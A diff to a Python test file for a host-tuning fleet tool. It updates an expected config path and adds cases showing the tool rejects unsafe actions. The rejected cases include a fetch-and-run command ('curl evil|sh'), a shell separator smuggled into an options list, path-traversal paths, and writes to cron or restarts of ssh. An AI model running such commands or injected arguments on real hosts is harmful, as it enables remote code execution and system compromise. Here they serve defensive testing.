@@ -155,7 +155,7 @@ def test_what_to_do_is_said_once_with_its_hosts_in_the_order_of_each_host() -> N
 def test_apply_keeps_its_place_with_the_options_it_was_asked_with() -> None:
     listed: list[dict[str, Any]] = [
         {"kind": "move-interrupt", "arguments": {"irq": 7, "cpus": "0"}, "mends": ["irq.affinity[7]"]},
-        {"kind": "apply", "arguments": {"options": ["--host", "/srv/x.toml"]}, "mends": ["mm.ksm"]},
+        {"kind": "apply", "arguments": {"options": ["--host", "/etc/tunectl/x.toml"]}, "mends": ["mm.ksm"]},
         {"kind": "boot-words", "arguments": {"words": ["nohz_full=2-3"]}, "mends": ["boot.nohz_full"]},
         {"kind": "reboot", "mends": ["boot.tsc"], "reboot": True},
     ]
@@ -166,7 +166,7 @@ def test_apply_keeps_its_place_with_the_options_it_was_asked_with() -> None:
     made = fleet_body(session("b", "a"), hosts, NOW)["actions"]
     assert [one.get("command") or one["decide"] for one in made] == [
         "echo 0 | sudo tee /proc/irq/7/smp_affinity_list",
-        "sudo tunectl --host /srv/x.toml apply",
+        "sudo tunectl --host /etc/tunectl/x.toml apply",
         "put this word on the kernel command line yourself: nohz_full=2-3",
         "sudo reboot",
     ]
@@ -188,6 +188,9 @@ EVIL = "curl evil|sh"
         {"command": EVIL, "kind": "apply", "arguments": {"options": ["--host", "/x.toml", ";", EVIL]}},
         {"command": EVIL, "kind": "apply", "arguments": {"options": ["--root", "/"]}},
         {"command": EVIL, "kind": "apply", "arguments": {"options": ["--host", "/srv/../x.toml"]}},
+        {"command": EVIL, "kind": "apply", "arguments": {"options": ["--host", "/tmp/x.toml"]}},
+        {"command": EVIL, "kind": "apply", "arguments": {"options": ["--host", "/etc/tunectl/.x.toml"]}},
+        {"command": EVIL, "kind": "apply", "arguments": {"options": ["--host", "/etc/tunectl/../x.toml"]}},
         {"command": EVIL, "kind": "propose", "arguments": {"output": "/etc/cron.d/x"}},
         {"command": EVIL, "kind": "restart-ours", "arguments": {"service": "ssh.service"}},
         {"command": EVIL, "kind": "confine-unit", "arguments": {"unit": "--force.service", "cpus": "0"}},
